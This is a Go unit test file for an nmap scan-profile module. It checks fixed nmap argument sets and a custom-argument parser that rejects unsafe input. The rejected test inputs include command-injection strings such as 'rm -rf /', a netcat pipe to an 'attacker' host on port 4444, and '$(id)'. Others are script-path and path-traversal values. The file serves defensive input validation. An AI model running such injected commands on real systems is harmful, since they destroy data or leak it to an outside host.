// internal/profile/profile_test.go
// Unit tests for the scan profile table

package profile

import (
	"errors"
	"testing"

	"github.com/aspnmy/scanapi/internal/models"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestResolve_FixedProfilesArePure(t *testing.T) {
	fixed := []models.ProfileID{
		models.ProfileQuick, models.ProfileFull, models.ProfileStealth,
		models.ProfileVuln, models.ProfileService, models.ProfileOS,
		models.ProfileUDP, models.ProfileScript,
	}

	for _, id := range fixed {
		t.Run(string(id), func(t *testing.T) {
			first, err := Resolve(id, "")
			require.NoError(t, err)
			require.NotEmpty(t, first)

			// Mutating the returned slice must not leak into the table
			first[0] = "--mutated"

			second, err := Resolve(id, "ignored for fixed profiles")
			require.NoError(t, err)
			assert.NotEqual(t, "--mutated", second[0])

			third, err := Resolve(id, "")
			require.NoError(t, err)
			assert.Equal(t, second, third)
		})
	}
}

func TestResolve_KnownArguments(t *testing.T) {
	tests := []struct {
		id   models.ProfileID
		want []string
	}{
		{models.ProfileQuick, []string{"-sV", "-F", "-T4", "--version-intensity", "5"}},
		{models.ProfileFull, []string{"-sS", "-sV", "-O", "-p-", "-T4", "--version-intensity", "7"}},
		{models.ProfileVuln, []string{"-sV", "-sC", "--script", "vuln", "-T4"}},
		{models.ProfileScript, []string{"-sC", "-sV", "--script", "default,safe"}},
		{models.ProfileCustom, []string{"-A", "-T4", "-v"}},
	}

	for _, tt := range tests {
		t.Run(string(tt.id), func(t *testing.T) {
			got, err := Resolve(tt.id, "")
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestResolve_UnknownProfile(t *testing.T) {
	args, err := Resolve("nonexistent-profile", "")
	assert.Nil(t, args)
	require.Error(t, err)
	assert.True(t, errors.Is(err, models.ErrInvalidProfile))
	assert.Equal(t, models.KindValidation, models.KindOf(err))
}

func TestResolve_EmptyProfileIsNotDefaulted(t *testing.T) {
	_, err := Resolve("", "")
	assert.ErrorIs(t, err, models.ErrInvalidProfile)
}

func TestResolve_CustomRejectsShellMetacharacters(t *testing.T) {
	inputs := []string{
		"-sV; rm -rf /",
		"-sV | nc attacker 4444",
		"-sV && reboot",
		"-sV & sleep 10",
		"-sV `id`",
		"-sV $(id)",
		"-sV > /tmp/out",
		"-sV\n-oN /tmp/x",
	}

	for _, in := range inputs {
		t.Run(in, func(t *testing.T) {
			_, err := Resolve(models.ProfileCustom, in)
			require.Error(t, err)
			assert.ErrorIs(t, err, models.ErrInvalidCustomArguments)
		})
	}
}

func TestParseCustom(t *testing.T) {
	tests := []struct {
		name    string
		raw     string
		want    []string
		wantErr bool
	}{
		{name: "bare flags", raw: "-sV -O", want: []string{"-sV", "-O"}},
		{name: "attached timing", raw: "-sS -T4", want: []string{"-sS", "-T4"}},
		{name: "attached ports", raw: "-p22,80,443", want: []string{"-p22,80,443"}},
		{name: "separate ports", raw: "-p 22,80", want: []string{"-p", "22,80"}},
		{name: "all ports", raw: "-p-", want: []string{"-p-"}},
		{name: "valued long flag", raw: "--top-ports 100", want: []string{"--top-ports", "100"}},
		{name: "inline long value", raw: "--top-ports=100", want: []string{"--top-ports=100"}},
		{name: "script category", raw: "--script vuln", want: []string{"--script", "vuln"}},
		{name: "script list", raw: "--script http-title,ssh-hostkey", want: []string{"--script", "http-title,ssh-hostkey"}},
		{name: "extra whitespace", raw: "  -sV   -F  ", want: []string{"-sV", "-F"}},
		{name: "bare syn discovery", raw: "-PS -sV", want: []string{"-PS", "-sV"}},
		{name: "inline syn discovery ports", raw: "-PS22,443", want: []string{"-PS22,443"}},

		{name: "output file", raw: "-oN out.txt", wantErr: true},
		{name: "xml output", raw: "-oX -", wantErr: true},
		{name: "input list", raw: "-iL targets.txt", wantErr: true},
		{name: "datadir", raw: "--datadir /tmp", wantErr: true},
		{name: "script path", raw: "--script /tmp/evil.nse", wantErr: true},
		{name: "path traversal", raw: "--script ../../evil", wantErr: true},
		{name: "extra target", raw: "-sV 10.0.0.1", wantErr: true},
		{name: "discovery flag followed by address", raw: "-PS 8.8.8.8", wantErr: true},
		{name: "udp discovery followed by prefix", raw: "-sV -PU 10.0.0.0/8", wantErr: true},
		{name: "ack discovery followed by hostname", raw: "-PA scanme.nmap.org", wantErr: true},
		{name: "sctp discovery followed by port list", raw: "-PY 80", wantErr: true},
		{name: "port flag followed by prefix", raw: "-p 10.0.0.0/8", wantErr: true},
		{name: "missing value", raw: "--top-ports", wantErr: true},
		{name: "bare T", raw: "-T", wantErr: true},
		{name: "value on bare flag", raw: "--open=yes", wantErr: true},
		{name: "flag as value", raw: "--script -oN", wantErr: true},
		{name: "unknown flag", raw: "--privileged", wantErr: true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseCustom(tt.raw)
			if tt.wantErr {
				require.Error(t, err)
				assert.ErrorIs(t, err, models.ErrInvalidCustomArguments)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestParseCustom_Limits(t *testing.T) {
	long := ""
	for i := 0; i < 40; i++ {
		long += "-v "
	}
	_, err := ParseCustom(long)
	assert.ErrorIs(t, err, models.ErrInvalidCustomArguments)
}

func TestProfiles(t *testing.T) {
	list := Profiles()
	require.Len(t, list, 9)

	for i := 1; i < len(list); i++ {
		assert.Less(t, string(list[i-1].ID), string(list[i].ID))
	}

	for _, p := range list {
		assert.NotEmpty(t, p.Description, "profile %s", p.ID)
		assert.NotEmpty(t, p.Args, "profile %s", p.ID)
	}
}
